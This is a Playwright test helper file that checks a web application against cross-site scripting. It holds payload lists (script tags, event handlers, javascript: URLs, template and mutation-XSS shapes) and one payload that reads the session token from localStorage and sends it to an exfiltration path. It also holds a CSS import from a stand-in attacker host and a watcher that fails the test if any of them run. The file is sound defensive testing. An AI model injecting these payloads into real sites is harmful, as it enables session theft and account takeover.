import { expect, type APIRequestContext, type Page } from '@playwright/test';
import { registerFreshUser, type FreshUser } from './freshUser';
import { api } from './api';
import { apiToken } from './session';

/**
 * XSS payloads: script tags, event handlers, attribute break-outs, javascript: URLs, template
 * and mutation-XSS shapes, and one that tries to read the session token and send it away.
 * Each fires alert(n) or requests /__exfil when it runs. SHORT_PAYLOADS fit 40-character fields.
 */
export const SHORT_PAYLOADS = [
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(2)>',
  '<script>alert(3)</script>',
  '"><img src=x onerror=alert(4)>',
  'javascript:alert(5)',
  "'><details open ontoggle=alert(6)>",
  '<a href="javascript:alert(7)">x</a>',
  '${alert(8)}',
  '<body onload=alert(9)>',
] as const;

export const PAYLOADS = [
  ...SHORT_PAYLOADS,
  '<iframe srcdoc="<script>alert(10)</script>"></iframe>',
  "{{constructor.constructor('alert(11)')()}}",
  '<img src=x onerror="fetch(\'/__exfil?\'+localStorage.access_token)">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(13)>',
  '<style>@import "//evil.example/x.css";</style>',
  '<object data="javascript:alert(15)"></object>',
  '<input autofocus onfocus=alert(16)>',
  '</textarea><script>alert(17)</script>',
  '<div style="background:url(javascript:alert(18))">',
] as const;

export interface XssWatch {
  /** Fails if any payload ran: a dialog, a request to the exfiltration URL or to a foreign host. */
  expectNothingRan(): void;
}

/** Records every sign of a payload running on the page. */
export function watchForXss(page: Page): XssWatch {
  const fired: string[] = [];
  page.on('dialog', (dialog) => {
    fired.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  page.on('request', (request) => {
    const url = request.url();
    if (url.includes('/__exfil') || url.includes('evil.example')) fired.push(`request: ${url}`);
  });
  return {
    expectNothingRan: () => expect(fired, 'payloads that ran').toEqual([]),
  };
}

export const authHeaders = (token: string) => ({ authorization: `Bearer ${token}` });

/** A fresh customer with the given modules (granted by the super admin through the API). */
export async function freshUserWith(
  request: APIRequestContext,
  label: string,
  modules: string[],
  userType?: 'reseller',
): Promise<FreshUser & { id: number }> {
  const user = await registerFreshUser(request, `xss-${label}`);
  const { id } = await api(request).get('/api/me', { headers: authHeaders(user.token) });
  const adminToken = await apiToken(request, 'admin');
  const granted = await request.put(`/api/admin/users/${id}`, {
    headers: authHeaders(adminToken),
    data: { modules, ...(userType ? { user_type: userType } : {}) },
  });
  expect(granted.status(), `grant ${modules.join(', ')}`).toBe(200);
  return { ...user, id };
}

/** POST/PUT through the API, expecting success. */
export async function send(
  request: APIRequestContext,
  token: string,
  method: 'post' | 'put',
  url: string,
  data: unknown,
): Promise<Record<string, unknown>> {
  const response = await request[method](url, { headers: authHeaders(token), data });
  expect(response.status(), `${method.toUpperCase()} ${url}: ${await response.text()}`).toBeLessThan(300);
  return (await response.json()) as Record<string, unknown>;
}
